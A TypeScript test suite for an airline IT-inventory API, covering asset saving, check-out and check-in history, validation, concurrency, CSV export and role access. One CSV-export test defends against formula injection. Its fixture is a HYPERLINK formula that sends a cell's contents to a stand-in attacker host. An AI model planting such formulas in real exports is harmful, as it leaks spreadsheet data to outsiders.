// IT inventory (issue 15): save, list with filters, detail with history, check-out / check-in / status
// events with their refusals, parallel check-outs, the CSV export, and who may use it.
import { beforeAll, describe, expect, it } from 'vitest';
import { today } from '@/lib/format/dates';
import { addDays } from '@/lib/rules/calendar-day';
import { inventoryCollection, inventoryExport, inventoryHistory, inventoryItem } from '@/server/api/inventory';
import { db } from '@/server/db';
import { byId, call, tokensFor } from '../support/api-client';

let admin: string;
let root: string;
let manager: string;
let adminId: number;
let holderId: number;
let otherId: number;
let baseId: number;

let counter = 0;
/** An asset tag no other test (or the seed) uses. */
const tag = (prefix = 'TST') => `${prefix}-${process.pid}-${Date.now() % 100000}-${++counter}`;

async function createAsset(body: Record<string, unknown> = {}) {
  const res = await call(inventoryCollection.POST, {
    token: admin,
    body: { asset_tag: tag(), category: 'laptop', model: 'ThinkPad T14 Gen 4', ...body },
  });
  expect(res.status, res.text).toBe(201);
  return res.json.id as number;
}

const event = (id: number, body: Record<string, unknown>, token = admin) => call(inventoryHistory.POST, { token, params: byId(id), body });
const detail = async (id: number) => (await call(inventoryItem.GET, { token: admin, params: byId(id) })).json;

beforeAll(async () => {
  [admin, root, manager] = await tokensFor('admin', 'root', 'manager');
  const users = await db.user.findMany({
    where: { email: { in: ['admin@example.com', 'airline_occ@example.com', 'airline_pilot@example.com'] } },
    select: { id: true, email: true },
  });
  const idOf = (email: string) => users.find((u) => u.email === email)?.id ?? 0;
  adminId = idOf('admin@example.com');
  holderId = idOf('airline_occ@example.com');
  otherId = idOf('airline_pilot@example.com');
  baseId = (await db.base.findFirstOrThrow({ select: { id: true } })).id;
});

describe('saving an asset', () => {
  it('creates with a created history row, reads it back, updates with an edited row naming the changes', async () => {
    const asset_tag = tag('lap');
    const created = await call(inventoryCollection.POST, {
      token: admin,
      body: {
        asset_tag,
        category: 'laptop',
        model: 'Dell Latitude 5440',
        serial: 'SN-123',
        purchase_date: '2025-03-01',
        purchase_cost: 18500000,
        warranty_end: '2028-03-01',
        base_id: baseId,
        location: 'OCC room',
      },
    });
    expect(created.status).toBe(201);
    const id = created.json.id;
    const got = await detail(id);
    expect(got).toMatchObject({
      asset_tag: asset_tag.toUpperCase(),
      category: 'laptop',
      status: 'deployable',
      purchase_cost: 18500000,
      purchase_date: '2025-03-01',
      warranty_end: '2028-03-01',
      base_id: baseId,
      holder: null,
    });
    expect(got.history).toHaveLength(1);
    expect(got.history[0]).toMatchObject({ event: 'created', by_user: { id: adminId }, to_status: 'deployable' });

    const updated = await call(inventoryCollection.POST, {
      token: root,
      body: { id, asset_tag, category: 'laptop', model: 'Dell Latitude 5450', serial: null, purchase_cost: 18750000.5 },
    });
    expect(updated.status).toBe(200);
    expect(updated.json).toEqual({ id });
    const after = await detail(id);
    expect(after).toMatchObject({ model: 'Dell Latitude 5450', serial: null, purchase_cost: 18750000.5, location: 'OCC room' });
    expect(after.history[0]).toMatchObject({ event: 'edited', note: 'Changed model, serial, purchase cost' });
    // saving the same values writes no history
    await call(inventoryCollection.POST, { token: admin, body: { id, asset_tag, category: 'laptop', model: 'Dell Latitude 5450' } });
    expect((await detail(id)).history).toHaveLength(2);
  });

  it('refuses bad input with field messages and changes nothing', async () => {
    const id = await createAsset();
    const before = await db.inventoryAsset.count();
    const history = await db.inventoryHistory.count();
    const cases: [Record<string, unknown>, string][] = [
      [{ category: 'laptop', model: 'X' }, 'asset_tag'],
      [{ asset_tag: 'a b', category: 'laptop', model: 'X' }, 'asset_tag'],
      [{ asset_tag: tag(), category: 'fridge', model: 'X' }, 'category'],
      [{ asset_tag: tag(), category: 'laptop', model: '' }, 'model'],
      [{ asset_tag: tag(), category: 'laptop', model: 'X', purchase_cost: -5 }, 'purchase_cost'],
      [{ asset_tag: tag(), category: 'laptop', model: 'X', purchase_cost: 'lots' }, 'purchase_cost'],
      [{ asset_tag: tag(), category: 'laptop', model: 'X', purchase_date: addDays(today(), 2) }, 'purchase_date'],
      [{ asset_tag: tag(), category: 'laptop', model: 'X', purchase_date: '2025-05-01', warranty_end: '2025-04-01' }, 'warranty_end'],
      [{ asset_tag: tag(), category: 'laptop', model: 'X', status: 'deployed' }, 'status'],
      [{ asset_tag: tag(), category: 'laptop', model: 'X', holder_id: holderId }, 'holder_id'],
      [{ asset_tag: tag(), category: 'laptop', model: 'X', base_id: 2_000_000 }, 'base_id'],
      [{ id, asset_tag: tag(), category: 'laptop', model: 'X', status: 'retired' }, 'status'],
    ];
    for (const [body, field] of cases) {
      const res = await call(inventoryCollection.POST, { token: admin, body });
      expect(res.status, JSON.stringify(body)).toBe(400);
      expect(Object.keys(res.json.error.fields ?? {}), JSON.stringify(body)).toContain(field);
    }
    expect(await db.inventoryAsset.count()).toBe(before);
    expect(await db.inventoryHistory.count()).toBe(history);
    const bad = await call(inventoryCollection.POST, { token: admin, raw: '{not json', headers: { 'content-type': 'application/json' } });
    expect(bad.status).toBe(400);
  });

  it('PUT /{id} is the same save (api.md): refuses a status or another id, and nothing changes', async () => {
    const asset_tag = tag('put');
    const id = await createAsset({ asset_tag, location: 'Hangar 2' });
    const put = await call(inventoryItem.PUT, {
      token: admin,
      params: byId(id),
      body: { asset_tag, category: 'phone', model: 'Galaxy A54' },
    });
    expect(put.status).toBe(200);
    expect(put.json).toEqual({ id });
    expect(await detail(id)).toMatchObject({ category: 'phone', model: 'Galaxy A54', location: 'Hangar 2' });
    for (const body of [
      { asset_tag, category: 'phone', model: 'X', status: 'retired' },
      { id: id + 1, asset_tag, category: 'phone', model: 'X' },
    ]) {
      const res = await call(inventoryItem.PUT, { token: admin, params: byId(id), body });
      expect(res.status, JSON.stringify(body)).toBe(400);
    }
    expect(await detail(id)).toMatchObject({ model: 'Galaxy A54', status: 'deployable' });
    expect(
      (await call(inventoryItem.PUT, { token: admin, params: byId(2_000_000), body: { asset_tag: tag(), category: 'phone', model: 'X' } }))
        .status,
    ).toBe(404);
  });

  it('a tag already used is 409 (also on update, any case), an unknown id is 404', async () => {
    const first = tag('dup');
    await createAsset({ asset_tag: first });
    const again = await call(inventoryCollection.POST, {
      token: admin,
      body: { asset_tag: first.toLowerCase(), category: 'phone', model: 'X' },
    });
    expect(again.status).toBe(409);
    expect(again.json.error.message).toContain(first.toUpperCase());
    expect(again.json.error.fields.asset_tag).toBeDefined();
    const other = await createAsset();
    const clash = await call(inventoryCollection.POST, {
      token: admin,
      body: { id: other, asset_tag: first, category: 'phone', model: 'X' },
    });
    expect(clash.status).toBe(409);
    const missing = await call(inventoryCollection.POST, {
      token: admin,
      body: { id: 2_000_000, asset_tag: tag(), category: 'phone', model: 'X' },
    });
    expect(missing.status).toBe(404);
    expect((await call(inventoryItem.GET, { token: admin, params: byId(2_000_000) })).status).toBe(404);
  });
});

describe('check-out, check-in and status changes', () => {
  it('checks out to a staff member and back in, each with a history row naming both users', async () => {
    const id = await createAsset({ category: 'tablet', model: 'iPad Air (EFB)' });
    const expected_return = addDays(today(), 14);
    const out = await event(id, { event: 'checkout', user_id: holderId, expected_return, note: 'EFB for the Wamena rotation' });
    expect(out.status, out.text).toBe(200);
    expect(out.json).toMatchObject({ id, status: 'deployed', holder_id: holderId });
    let got = await detail(id);
    expect(got).toMatchObject({ status: 'deployed', holder: { id: holderId }, expected_return });
    expect(got.history[0]).toMatchObject({
      event: 'checkout',
      by_user: { id: adminId },
      for_user: { id: holderId },
      from_status: 'deployable',
      to_status: 'deployed',
      expected_return,
      note: 'EFB for the Wamena rotation',
    });

    const mine = await call(inventoryCollection.GET, { token: admin, query: { holder: holderId, limit: 1000 } });
    expect(mine.json.data.map((a: { id: number }) => a.id)).toContain(id);
    expect(mine.json.data.every((a: { holder_id: number }) => a.holder_id === holderId)).toBe(true);

    const back = await event(id, { event: 'checkin', condition: 'damaged', status: 'in_repair', note: 'Cracked screen' });
    expect(back.status).toBe(200);
    got = await detail(id);
    expect(got).toMatchObject({ status: 'in_repair', holder: null, holder_id: null, expected_return: null });
    expect(got.history[0]).toMatchObject({
      event: 'checkin',
      by_user: { id: adminId },
      for_user: { id: holderId },
      condition: 'damaged',
      from_status: 'deployed',
      to_status: 'in_repair',
    });

    const fixed = await event(id, { event: 'status', status: 'deployable', note: 'Screen replaced' });
    expect(fixed.status).toBe(200);
    expect((await detail(id)).history[0]).toMatchObject({ event: 'status', from_status: 'in_repair', to_status: 'deployable' });
    expect((await detail(id)).history.map((h: { event: string }) => h.event)).toEqual(['status', 'checkin', 'checkout', 'created']);
  });

  it('refuses a check-out of an asset that is not deployable (409) and changes nothing', async () => {
    const id = await createAsset();
    expect((await event(id, { event: 'checkout', user_id: holderId })).status).toBe(200);
    const history = await db.inventoryHistory.count({ where: { asset_id: id } });
    const again = await event(id, { event: 'checkout', user_id: otherId });
    expect(again.status).toBe(409);
    expect(again.json.error.message).toMatch(/is deployed \(held by .+\): only a deployable asset can be checked out/);
    expect((await detail(id)).holder_id).toBe(holderId);

    const retired = await createAsset({ status: 'retired' });
    expect((await event(retired, { event: 'checkout', user_id: holderId })).status).toBe(409);
    expect((await event(retired, { event: 'checkin', condition: 'good' })).status).toBe(409);
    expect((await event(id, { event: 'status', status: 'retired' })).status).toBe(409);
    expect((await event(retired, { event: 'status', status: 'retired' })).status).toBe(409);
    expect(await db.inventoryHistory.count({ where: { asset_id: id } })).toBe(history);
    expect((await detail(retired)).status).toBe('retired');
  });

  it('refuses bad events with field messages: 400, and 404 for an unknown asset', async () => {
    const id = await createAsset();
    const inactive = await db.user.create({
      data: {
        name: 'Former Staff',
        email: `${tag('gone').toLowerCase()}@example.com`,
        password_hash: 'x',
        role: 'airline_occ',
        active: false,
      },
    });
    const cases: [Record<string, unknown>, string][] = [
      [{ event: 'lend' }, 'event'],
      [{ event: 'checkout' }, 'user_id'],
      [{ event: 'checkout', user_id: 2_000_000 }, 'user_id'],
      [{ event: 'checkout', user_id: inactive.id }, 'user_id'],
      [{ event: 'checkout', user_id: holderId, expected_return: addDays(today(), -1) }, 'expected_return'],
      [{ event: 'checkout', user_id: holderId, condition: 'good' }, 'condition'],
      [{ event: 'checkin', condition: 'soggy' }, 'condition'],
      [{ event: 'checkin', condition: 'good', status: 'retired' }, 'status'],
      [{ event: 'status', status: 'deployed' }, 'status'],
    ];
    for (const [body, field] of cases) {
      const res = await event(id, body);
      expect(res.status, JSON.stringify(body)).toBe(400);
      expect(Object.keys(res.json.error.fields ?? {}), JSON.stringify(body)).toContain(field);
    }
    expect((await detail(id)).status).toBe('deployable');
    expect((await detail(id)).history).toHaveLength(1);
    expect((await event(2_000_000, { event: 'checkout', user_id: holderId })).status).toBe(404);
  });

  it('of two parallel check-outs of one asset exactly one wins', async () => {
    for (let round = 0; round < 3; round++) {
      const id = await createAsset({ category: 'radio', model: 'Motorola DP4400e' });
      const answers = await Promise.all([
        event(id, { event: 'checkout', user_id: holderId }),
        event(id, { event: 'checkout', user_id: otherId }),
      ]);
      expect(answers.map((a) => a.status).sort()).toEqual([200, 409]);
      const winner = answers.find((a) => a.status === 200)?.json.holder_id;
      const got = await detail(id);
      expect(got.holder_id).toBe(winner);
      expect(got.history.filter((h: { event: string }) => h.event === 'checkout')).toHaveLength(1);
    }
  });
});

describe('the list and its export', () => {
  it('filters by status, category and holder and searches in the database; refuses unknown filters', async () => {
    const model = `Zebra ZQ520 ${process.pid}-${++counter}`;
    const printer = await createAsset({ category: 'printer', model });
    const held = await createAsset({ category: 'phone', model });
    await event(held, { event: 'checkout', user_id: otherId });
    const list = (query: Record<string, string | number>) =>
      call(inventoryCollection.GET, { token: admin, query: { q: model, ...query } }).then((r) =>
        r.json.data.map((a: { id: number }) => a.id),
      );
    expect(await list({})).toEqual(expect.arrayContaining([printer, held]));
    expect(await list({ category: 'printer' })).toEqual([printer]);
    expect(await list({ status: 'deployed' })).toEqual([held]);
    expect(await list({ holder: otherId })).toEqual([held]);
    expect(await list({ status: 'retired' })).toEqual([]);
    const serial = `SN-${process.pid}-${counter}-Q`;
    const radio = await createAsset({ category: 'radio', serial });
    expect(await list({ q: serial.toLowerCase() })).toEqual([radio]);
    const page = await call(inventoryCollection.GET, { token: admin, query: { limit: 5, page: 2, sort: 'purchase_cost', order: 'desc' } });
    expect(page.status).toBe(200);
    expect(page.json.data).toHaveLength(5);
    expect(page.json.total).toBeGreaterThan(10);
    const refused: Record<string, string>[] = [{ status: 'lost' }, { category: 'fridge' }, { holder: 'x' }, { sort: 'password' }];
    for (const query of refused) {
      expect((await call(inventoryCollection.GET, { token: admin, query })).status, JSON.stringify(query)).toBe(400);
    }
  });

  it("exports the filtered list as CSV with ';'", async () => {
    const model = `Brother PT-P710 ${process.pid}-${++counter}`;
    const a = await createAsset({ category: 'printer', model, purchase_cost: 2500000, notes: 'Label printer; hangar' });
    await createAsset({ category: 'other', model });
    const res = await call(inventoryExport, { token: admin, query: { q: model, category: 'printer', page: 3, limit: 1 } });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toContain('text/csv');
    expect(res.headers.get('content-disposition')).toMatch(/attachment; filename="inventory-\d{4}-\d{2}-\d{2}\.csv"/);
    const lines = res.text.trim().split('\r\n');
    expect(lines[0]).toBe(
      'asset_tag;category;model;serial;status;holder;expected_return;base;location;purchase_date;purchase_cost_idr;warranty_end;notes',
    );
    expect(lines).toHaveLength(2);
    const tagOf = (await detail(a)).asset_tag;
    expect(lines[1]).toBe(`${tagOf};Printer;${model};;Deployable;;;;;;2500000;;"Label printer; hangar"`);
    expect((await call(inventoryExport, { token: admin, query: { status: 'nope' } })).status).toBe(400);
  });

  it('writes a cell a spreadsheet would run as a formula as text (issue 39)', async () => {
    const model = `Formula ${process.pid}-${++counter}`;
    const notes = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
    await createAsset({ category: 'other', model, location: '@SUM(1+1)', notes, purchase_cost: 1250000 });
    const res = await call(inventoryExport, { token: admin, query: { q: model } });
    const cells = res.text.trim().split('\r\n')[1].split(';');
    expect(cells.at(-1)).toBe(`"'${notes.replaceAll('"', '""')}"`);
    expect(cells[8]).toBe("'@SUM(1+1)");
    expect(cells[10]).toBe('1250000');
  });
});

describe('access', () => {
  it('answers 401 without a session and 403 to a role without the inventory (manager), for every call', async () => {
    const id = await createAsset();
    const body = { asset_tag: tag(), category: 'laptop', model: 'X' };
    for (const [token, status] of [
      [undefined, 401],
      [manager, 403],
    ] as const) {
      expect((await call(inventoryCollection.GET, { token })).status).toBe(status);
      expect((await call(inventoryCollection.POST, { token, body })).status).toBe(status);
      expect((await call(inventoryItem.GET, { token, params: byId(id) })).status).toBe(status);
      expect((await call(inventoryItem.PUT, { token, params: byId(id), body })).status).toBe(status);
      expect((await call(inventoryHistory.POST, { token, params: byId(id), body: { event: 'status', status: 'retired' } })).status).toBe(
        status,
      );
      expect((await call(inventoryExport, { token })).status).toBe(status);
    }
    expect(await db.inventoryAsset.count({ where: { asset_tag: body.asset_tag } })).toBe(0);
    expect((await detail(id)).status).toBe('deployable');
    expect((await call(inventoryCollection.GET, { token: root, query: { limit: 1 } })).status).toBe(200);
  });
});

describe('the demo data', () => {
  it('has about 60 assets of every category, some checked out to demo staff, each history in order and matching the asset', async () => {
    const seeded = (
      await db.inventoryAsset.findMany({ include: { history: { orderBy: [{ at: 'asc' }, { id: 'asc' }] } }, orderBy: { id: 'asc' } })
    ).filter((a) => /^(LAP|EFB|RAD|PHN|PRN|OTH)-\d{4}$/.test(a.asset_tag));
    expect(seeded.length).toBeGreaterThanOrEqual(55);
    expect(new Set(seeded.map((a) => a.category))).toEqual(new Set(['laptop', 'tablet', 'radio', 'phone', 'printer', 'other']));
    const deployed = seeded.filter((a) => a.status === 'deployed');
    expect(deployed.length).toBeGreaterThanOrEqual(10);
    expect(seeded.some((a) => a.status === 'in_repair')).toBe(true);
    for (const a of seeded) {
      expect(a.history[0].event, a.asset_tag).toBe('created');
      const lastStatus = a.history.findLast((h) => h.to_status)?.to_status;
      expect(lastStatus, a.asset_tag).toBe(a.status);
      for (let i = 1; i < a.history.length; i++) {
        if (a.history[i].from_status) expect(a.history[i].from_status, a.asset_tag).toBe(a.history[i - 1].to_status);
      }
      if (a.status === 'deployed') expect(a.history.at(-1)).toMatchObject({ event: 'checkout', for_user_id: a.holder_id });
    }
    // the detail reads a seeded asset with its history, both users named
    const held = await detail(deployed[0].id);
    expect(held.history[0]).toMatchObject({
      event: 'checkout',
      by_user: { name: expect.any(String) },
      for_user: { id: deployed[0].holder_id },
    });
  });
});
